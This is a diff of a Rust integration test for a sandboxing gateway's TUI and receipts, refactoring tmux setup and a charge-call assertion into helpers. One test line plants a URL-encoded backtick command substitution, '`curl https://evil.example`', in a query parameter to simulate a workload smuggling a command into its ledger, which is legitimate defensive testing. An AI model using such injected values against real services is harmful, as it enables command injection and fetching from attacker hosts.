@@ -7,8 +7,8 @@
 //! a "verified" the receipt does not give).
 
 use crate::support::gateway::*;
-use crate::support::tmux::{sh_quote, Tmux, TUI_DEADLINE};
-use crate::support::{self, bin, command, output, skip, text, tool_works, TempDir};
+use crate::support::tmux::TUI_DEADLINE;
+use crate::support::{self, command, output, skip, text, tool_works, TempDir};
 
 /// What follows `integrity: ` on the receipt's interception line, and the
 /// interception word before it.
@@ -59,17 +59,7 @@ fn tui_and_receipt_of_a_sandbox_agree_before_and_after_its_probe() {
     let mut gw = Gateway::start("gwv-tui", "127.0.0.1:0", &[]);
     let a = gw.add_sandbox_json("sbx-a", "stripe");
     let ca = gw.ca();
-    let log = dir.join("tui.log");
-    let tmux = Tmux::start(dir.path(), 200, 30);
-    tmux.respawn(&format!(
-        "{} tui --state-dir {} --sandbox sbx-a --receipt-every 1 --log-file {}",
-        sh_quote(&bin().display().to_string()),
-        sh_quote(&gw.state.display().to_string()),
-        sh_quote(&log.display().to_string()),
-    ));
-    tmux.wait_screen("the TUI live on A", TUI_DEADLINE, |s| {
-        s.contains("twin sbx-a") && s.contains("live")
-    });
+    let tmux = gw.tui(&dir, "sbx-a", (200, 30), &["--receipt-every", "1"]);
 
     let receipt = gw.receipt_text("sbx-a");
     let (interception, integrity) = receipt_words(&receipt);
@@ -145,8 +135,7 @@ fn the_receipts_probe_hint_works_as_printed() {
     let c = gw.add_sandbox_json("sbx-c", "stripe");
     // B's workload puts a command of its own into its ledger.
     let planted = format!("{HTTPS_CHARGES}?next=%60curl%20https%3A%2F%2Fevil.example%60");
-    let (ok, status, stderr) = curl_charge(&b.url("socks5h"), &planted, &ca);
-    assert!(ok && status == "200", "B's call: {status} {stderr}");
+    charge_ok_to(&b.url("socks5h"), &planted, &ca, "B's call");
 
     let hint = canary_detail(&gw, "sbx-a");
     assert!(hint.starts_with(NO_PROBE), "{hint}");
